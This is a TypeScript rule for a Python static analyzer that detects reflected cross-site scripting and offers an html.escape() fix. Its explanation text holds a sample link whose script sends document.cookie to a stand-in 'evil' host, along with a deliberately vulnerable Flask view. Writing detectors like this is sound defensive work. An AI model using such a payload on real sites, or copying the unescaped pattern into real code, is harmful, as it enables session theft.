import type { Node } from 'web-tree-sitter';
import { taintLevel, union } from '../../server/src/engine/dataflow';
import { compact, ensureImport, replaceNode } from '../../server/src/engine/fixes';
import { lastSegment, matchesAny } from '../../server/src/engine/names';
import type { CallSite, Ctx, Rule } from '../../server/src/engine/rule';
import type { Fix, TextEdit } from '../../server/src/engine/types';
import { perFile, reportFlow, sinkName } from '../support';
import { definingExpr, isBuiltText, RAW_REQUEST_TEXT, stringValue, withoutTypedRouteParams } from '../web/web';

/** Response constructors whose body is served as text/html unless told otherwise: [names, body keyword]. */
const HTML_BODIES: { names: string[]; keyword: string }[] = [
  { names: ['flask.make_response'], keyword: '' },
  { names: ['flask.Response', 'flask.wrappers.Response', 'werkzeug.wrappers.Response', 'werkzeug.Response'], keyword: 'response' },
  { names: ['django.http.HttpResponse', 'django.http.response.HttpResponse', 'django.http.HttpResponseBadRequest', 'django.http.HttpResponseNotFound', 'django.http.HttpResponseForbidden', 'django.http.HttpResponseServerError'], keyword: 'content' },
  { names: ['starlette.responses.HTMLResponse', 'fastapi.responses.HTMLResponse'], keyword: 'content' },
  { names: ['pyramid.response.Response', 'webob.Response', 'webob.response.Response'], keyword: 'body' },
];
const ALWAYS_HTML = ['starlette.responses.HTMLResponse', 'fastapi.responses.HTMLResponse'];
/** Flask (and Flask 2 shortcut) route decorators. FastAPI's look the same but serialise str as JSON. */
const FLASK_ROUTE = /^@\s*[\w.]+\.(route|get|post|put|patch|delete)\s*\(/;

function bodyArg(site: CallSite): Node | undefined {
  const entry = HTML_BODIES.find((e) => matchesAny(site.qname, e.names));
  if (!entry) return undefined;
  return site.positional[0] ?? (entry.keyword ? site.keywords.get(entry.keyword) : undefined);
}

/** A `content_type=` / `mimetype=` / `media_type=` that is not HTML: JSON, plain text, CSV... */
function declaredNotHtml(site: CallSite): boolean {
  if (matchesAny(site.qname, ALWAYS_HTML)) return false;
  for (const k of ['content_type', 'mimetype', 'media_type']) {
    const v = site.keywords.get(k);
    if (!v) continue;
    const s = stringValue(v);
    return s === null || !/html|xml/i.test(s);
  }
  // `HttpResponse(body, "text/plain")`: Django's second positional is the content type.
  const second = matchesAny(site.qname, HTML_BODIES[2].names) ? stringValue(site.positional[1]) : null;
  return second !== null && !/html|xml/i.test(second);
}

function tainted(node: Node, ctx: Ctx): boolean {
  return taintLevel(withoutTypedRouteParams(ctx.valueOf(node), ctx), 'html') !== null;
}

/** Wraps the non-constant parts of an f-string, `+` chain, `%` or `.format()` in `html.escape(...)`. */
function escapeEdits(node: Node, ctx: Ctx, out: TextEdit[]): boolean {
  if (node.type === 'parenthesized_expression') return escapeEdits(node.namedChild(0)!, ctx, out);
  if (node.type === 'string') {
    for (const p of node.namedChildren) {
      const expr = p?.type === 'interpolation' ? p.childForFieldName('expression') ?? p.namedChild(0) : null;
      if (!expr || !tainted(expr, ctx)) continue;
      // `{x!r}` or `{x:>10}` would format the escaped text differently: leave those to a person.
      if (expr.nextSibling && expr.nextSibling.type !== '}') return false;
      out.push(replaceNode(expr, `html.escape(str(${expr.text}))`));
    }
    return true;
  }
  if (node.type === 'binary_operator') {
    const op = node.childForFieldName('operator')?.type;
    const left = node.childForFieldName('left')!;
    const right = node.childForFieldName('right')!;
    if (op === '+') {
      for (const side of [left, right]) {
        if (!tainted(side, ctx)) continue;
        if (side.type === 'binary_operator' || side.type === 'string') {
          if (!escapeEdits(side, ctx, out)) return false;
        } else out.push(replaceNode(side, `html.escape(${side.text})`));
      }
      return true;
    }
    if (op === '%' && left.type === 'string' && !tainted(left, ctx)) {
      // Only `%s` fields: `%d` of an escaped string would fail.
      if (/%[^s%]/.test((stringValue(left) ?? '').replace(/%%/g, ''))) return false;
      const items = right.type === 'tuple' ? right.namedChildren.filter((c): c is Node => !!c && c.type !== 'comment') : [right];
      // A single value only for a single field: `"%s %s" % pair` spreads a tuple we cannot see.
      if (right.type !== 'tuple' && (stringValue(left) ?? '').replace(/%%/g, '').split('%s').length !== 2) return false;
      for (const item of items) if (tainted(item, ctx)) out.push(replaceNode(item, `html.escape(str(${item.text}))`));
      return true;
    }
    return false;
  }
  if (node.type === 'call') {
    for (const a of node.childForFieldName('arguments')?.namedChildren ?? []) {
      if (!a || a.type === 'comment') continue;
      if (a.type === 'list_splat' || a.type === 'dictionary_splat') return false;
      const v = a.type === 'keyword_argument' ? a.childForFieldName('value')! : a;
      if (tainted(v, ctx)) out.push(replaceNode(v, `html.escape(str(${v.text}))`));
    }
    return true;
  }
  return false;
}

function buildFix(node: Node, ctx: Ctx): Fix | undefined {
  if (!isBuiltText(node)) return undefined;
  const edits: TextEdit[] = [];
  if (!escapeEdits(node, ctx, edits) || edits.length === 0) return undefined;
  return { title: 'HTML-escape the interpolated request data with html.escape()', safe: true, edits: compact([...edits, ensureImport(ctx.module, ctx.text, 'html')]) };
}

/**
 * HTML this code builds, or raw request text under a name. Other names (`resp = jsonify(x)`,
 * `result = driver.get(x)`) hold data whose type the dataflow does not know: often JSON or objects.
 */
function isHtmlText(body: Node, ctx: Ctx): boolean {
  if (isBuiltText(body)) return true;
  if (RAW_REQUEST_TEXT.test(body.text)) return true;
  if (body.type !== 'identifier') return false;
  const def = definingExpr(body, ctx);
  return !!def && (isBuiltText(def) || RAW_REQUEST_TEXT.test(def.text));
}

function report(ctx: Ctx, body: Node, sink: string): void {
  if (!isHtmlText(body, ctx)) return;
  const value = withoutTypedRouteParams(union([ctx.valueOf(body)]), ctx);
  const level = taintLevel(value, 'html');
  // Parameters of helpers and values of unknown origin are too common in response bodies to flag.
  if (level !== 'error') return;
  reportFlow(ctx, body, value, 'html', sink, (origin) =>
    `${origin[0].toUpperCase()}${origin.slice(1)} is put into an HTML response by ${sink} without escaping: a link carrying <script> in that value runs in the victim's browser with their session (reflected XSS). Escape it with html.escape() (or render a template with autoescaping).`,
    buildFix(body, ctx),
  );
}

function isFlaskRoute(fn: Node, ctx: Ctx): boolean {
  // The file's imports (read once per file) before the decorators (nodes, for every return).
  const flask = perFile(ctx, 'reflected-xss-flask', () => /^\s*(from\s+flask\b|import\s+flask\b)/m.test(ctx.moduleCode) && !/^\s*(from|import)\s+(fastapi|starlette)\b/m.test(ctx.moduleCode));
  if (!flask) return false;
  const decorated = fn.parent?.type === 'decorated_definition' ? fn.parent : null;
  return !!decorated?.namedChildren.some((d) => d?.type === 'decorator' && FLASK_ROUTE.test(d.text));
}

const rule: Rule = {
  code: 'SL124',
  name: 'reflected-xss',
  category: 'injection',
  summary: 'Request data written into an HTML response without escaping',
  severity: 'high',
  confidence: 'medium',
  defaultLevel: 'error',
  maxLevel: 'error',
  cwe: [79],
  bandit: [],
  ruff: [],
  fix: 'sometimes',
  explanation: {
    what:
      'Request data is pasted into the body of an HTML response with an f-string, `+`, `%` or `.format()`: passed to `flask.make_response`, `flask.Response`, Django\'s `HttpResponse` (and its error subclasses), Starlette/FastAPI `HTMLResponse` or Pyramid/WebOb `Response`, or returned as a string from a Flask view. Responses declared as JSON or plain text (`content_type=`, `mimetype=`, `media_type=`), `jsonify`, dicts returned from views, FastAPI routes (which JSON-encode strings) and values passed through `html.escape`/`markupsafe.escape` are not reported. Only request data is reported: function parameters and values of unknown origin are too common in response helpers to tell apart.',
    why:
      'The browser cannot tell the application\'s markup from the attacker\'s: a link such as `/search?q=<script>fetch("//evil/?c="+document.cookie)</script>` makes the page run the attacker\'s script with the victim\'s session (reflected cross-site scripting, CWE-79). Sending the victim that link is all it takes.',
    example:
      '@app.route("/search")\ndef search():\n    q = request.args.get("q", "")\n    return f"<h1>Results for {q}</h1>"',
    useInstead:
      'import html\n\n\n@app.route("/search")\ndef search():\n    q = request.args.get("q", "")\n    return f"<h1>Results for {html.escape(str(q))}</h1>"\n\n\n# better: a template with autoescaping\nreturn render_template("search.html", q=q)',
    fixSafety:
      'Safe: the fix wraps each non-constant part of the f-string (or `%s` argument, `.format()` argument, `+` operand) in `html.escape(...)` (with `str(...)` where the original formatting converted the value) and adds `import html`. Valid input renders the same; only `<`, `>`, `&` and quotes are now shown as text instead of being interpreted as markup. Parts with a conversion or format spec (`{x!r}`, `{x:>10}`) are left for a person.',
    references: [
      'https://cwe.mitre.org/data/definitions/79.html',
      'https://owasp.org/www-community/attacks/xss/',
      'https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html',
      'https://docs.python.org/3/library/html.html#html.escape',
      'https://flask.palletsprojects.com/en/latest/security/#cross-site-scripting-xss',
    ],
  },
  triggers: [...new Set(HTML_BODIES.flatMap((e) => e.names.map(lastSegment)))],
  // onReturn: a Flask route decorator, as FLASK_ROUTE reads it.
  triggerPattern: /@\s*[\w.]+\.(?:route|get|post|put|patch|delete)\s*\(/,
  onCall(site, ctx) {
    const body = bodyArg(site);
    if (!body || declaredNotHtml(site)) return;
    report(ctx, body, sinkName(site));
  },
  onReturn(node, ctx) {
    const fn = ctx.scope.func;
    if (!fn || !isFlaskRoute(fn.node, ctx)) return;
    let value = node.namedChildren.find((c) => c && c.type !== 'comment') ?? null;
    if (value?.type === 'expression_list' || value?.type === 'tuple') {
      // `return body, 200, {"Content-Type": "text/plain"}`: not HTML.
      const type = /["']Content-Type["']\s*:\s*["']([^"']*)["']/i.exec(value.text);
      if (type && !/html|xml/i.test(type[1])) return;
      value = value.namedChild(0);
    }
    if (!value) return;
    report(ctx, value, `the Flask view \`${fn.name}()\``);
  },
};

export default rule;
